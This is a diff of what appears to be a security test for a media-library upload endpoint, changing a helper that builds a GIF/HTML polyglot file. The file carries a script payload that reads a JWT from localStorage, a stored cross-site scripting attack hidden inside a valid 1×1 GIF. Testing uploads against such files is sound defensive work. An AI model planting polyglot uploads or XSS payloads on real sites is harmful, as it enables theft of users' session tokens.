@@ -34,9 +34,12 @@ const theft = () => {
     `localStorage.getItem('jwtToken'));document.title='PWNED';</script>`
   )
 }
-/** A GIF's signature and header with a page after it: file-type reads it as a GIF, a browser could read a page. */
+/** A whole 1×1 GIF with a page after it: its bytes say GIF, a browser that sniffed could read a page. */
 const polyglot = () =>
-  Buffer.concat([Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), Buffer.from(theft())])
+  Buffer.concat([
+    Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'),
+    Buffer.from(theft()),
+  ])
 
 /** An upload to the media library, as the panel sends it, by the signed-in staff member. */
 async function upload(token: string, name: string, type: string, bytes: Buffer) {
